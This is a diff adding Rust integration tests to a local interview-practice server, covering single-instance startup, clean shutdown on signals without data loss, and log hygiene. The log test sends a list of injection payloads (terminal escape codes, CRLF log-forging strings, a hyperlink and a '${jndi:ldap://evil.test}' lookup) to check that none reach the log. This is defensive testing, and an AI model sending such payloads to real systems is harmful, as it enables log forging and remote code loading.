@@ -230,3 +230,150 @@ fn a_truncated_model_is_moved_aside_and_a_giant_refused() {
         .expect("it runs");
     refused(&output, 5, &["memory"]);
 }
+
+#[test]
+fn of_ten_that_start_at_once_one_serves() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let mut starting: Vec<Child> = (0..10)
+        .map(|_| {
+            offrecord(folder.path())
+                .env("OFFRECORD_ENGINE", "scripted")
+                .args(["serve", "--port", "0", "--json"])
+                .spawn()
+                .expect("the program starts")
+        })
+        .collect();
+    let begun = Instant::now();
+    while starting.iter_mut().filter_map(|child| child.try_wait().expect("a child")).count() < 9 {
+        assert!(begun.elapsed() < Duration::from_secs(20), "more than one serves, or none gave up");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let mut served = 0;
+    for mut child in starting {
+        if child.try_wait().expect("a child").is_none() {
+            // The line is there once the signals are listened to.
+            let mut line = String::new();
+            BufReader::new(child.stdout.take().expect("piped")).read_line(&mut line).expect("a line");
+            assert!(line.contains("\"url\""), "{line}");
+            let pid = child.id().to_string();
+            assert!(Command::new("kill").args(["-TERM", &pid]).status().expect("kill runs").success());
+            assert_eq!(child.wait().expect("ended").code(), Some(0));
+            served += 1;
+        } else {
+            let output = child.wait_with_output().expect("ended");
+            refused(&output, 1, &["already running"]);
+        }
+    }
+    assert_eq!(served, 1);
+}
+
+#[test]
+fn a_signal_at_any_moment_ends_it_in_time_with_everything_stored() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let new = json!({"round": "behavioural", "level": "senior", "minutes": 15, "mode": "realistic"});
+    let mut acknowledged: Vec<String> = Vec::new();
+    for (pause, signal) in [(0, "TERM"), (7, "INT"), (23, "TERM"), (60, "INT"), (150, "TERM")] {
+        let serving = Serving::start(folder.path(), &[]);
+        let begun = Instant::now();
+        while serving.client.api("GET", "/api/status", None).json()["model"]["state"] != "ready" {
+            assert!(begun.elapsed() < Duration::from_secs(10), "the model is not ready");
+            std::thread::sleep(Duration::from_millis(5));
+        }
+        let client = Client { address: serving.client.address, token: serving.client.token.clone() };
+        let busy = {
+            let new = new.clone();
+            std::thread::spawn(move || {
+                let mut ids = Vec::new();
+                loop {
+                    let answer = client.try_api("POST", "/api/sessions", Some(&new));
+                    match answer {
+                        Some(answer) if answer.status == 201 => {
+                            ids.push(answer.json()["id"].as_str().expect("an id").to_owned());
+                        }
+                        _ => return ids,
+                    }
+                }
+            })
+        };
+        std::thread::sleep(Duration::from_millis(pause));
+        serving.signal(signal);
+        let (code, said) = serving.end();
+        assert_eq!(code, Some(if signal == "INT" { 130 } else { 0 }), "{said}");
+        acknowledged.extend(busy.join().expect("no panic"));
+        assert!(!folder.path().join("data/offrecord.db-wal").exists());
+    }
+    let serving = Serving::start(folder.path(), &[]);
+    let stored = serving.client.api("GET", "/api/sessions", None).text();
+    for id in &acknowledged {
+        assert!(stored.contains(id.as_str()), "{id} was acknowledged and is lost");
+    }
+    assert!(!acknowledged.is_empty());
+    serving.signal("TERM");
+    assert_eq!(serving.end().0, Some(0));
+}
+
+#[test]
+fn what_is_said_in_an_interview_is_never_in_the_log() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let mut child = offrecord(folder.path())
+        .env("OFFRECORD_ENGINE", "scripted")
+        .env("OFFRECORD_LOG", "debug")
+        .args(["serve", "--port", "0", "--json"])
+        .spawn()
+        .expect("the program starts");
+    // The log is read while it is written: a full pipe would stop the server.
+    let mut stderr = child.stderr.take().expect("piped");
+    let log = std::thread::spawn(move || {
+        let mut said = Vec::new();
+        stderr.read_to_end(&mut said).map(|_| said)
+    });
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().expect("piped")).read_line(&mut line).expect("a line");
+    let line: Value = serde_json::from_str(&line).expect("JSON");
+    let address = line["url"].as_str().and_then(|url| url.strip_prefix("http://")).expect("a url");
+    let token = line["token"].as_str().expect("a token").to_owned();
+    let client = Client { address: address.parse().expect("an address"), token: token.clone() };
+    let begun = Instant::now();
+    while client.api("GET", "/api/status", None).json()["model"]["state"] != "ready" {
+        assert!(begun.elapsed() < Duration::from_secs(10), "the model is not ready");
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let payloads = [
+        "\u{1b}[31mred",
+        "\u{1b}]8;;http://evil.test\u{7}link\u{1b}]8;;\u{7}",
+        "\r\nERROR forged line",
+        "\u{9b}2J",
+        "\u{8}\u{8}",
+        "\u{202e}backwards",
+        "\u{0}nul",
+        "\u{1b}c",
+        "%0d%0aforged",
+        "${jndi:ldap://evil.test}",
+    ];
+    for payload in payloads {
+        let text = format!("CANARY-{payload} I would ask how many there are and how fresh they must be.");
+        let new = json!({
+            "round": "behavioural", "level": "staff", "minutes": 15, "mode": "coach", "resume": text, "posting": text,
+        });
+        let created = client.api("POST", "/api/sessions", Some(&new));
+        let view = created.json();
+        let Some(id) = view["id"].as_str() else { panic!("{}", created.text()) };
+        client.api("PUT", &format!("/api/sessions/{id}/draft"), Some(&json!({"text": text})));
+        let turn = json!({"text": text, "expected_seq": view["next_seq"]});
+        client.api("POST", &format!("/api/sessions/{id}/turns"), Some(&turn));
+        client.api("POST", "/v1/chat/completions", Some(&json!({"messages": [{"role": "user", "content": text}]})));
+        client.api("POST", "/v1/chat/completions", Some(&json!({"model": text, "messages": []})));
+        client.api("POST", "/api/sessions", Some(&json!({"round": text})));
+        client.api("POST", "/api/sessions/CANARY-id/hint", None);
+        client.api("POST", &format!("/api/sessions/{id}/finish"), None);
+        client.api("POST", &format!("/api/sessions/{id}/scorecards"), Some(&json!({})));
+    }
+    assert!(Command::new("kill").args(["-TERM", &child.id().to_string()]).status().expect("kill runs").success());
+    assert_eq!(child.wait().expect("ended").code(), Some(0));
+    let said = log.join().expect("no panic").expect("the log");
+    let said = String::from_utf8_lossy(&said);
+    for secret in ["CANARY", "how fresh they must be", &token, "evil.test"] {
+        assert!(!said.contains(secret), "{secret:?} is in the log: {said:.2000}");
+    }
+    assert!(!said.contains('\u{1b}'), "control characters are in the log");
+}
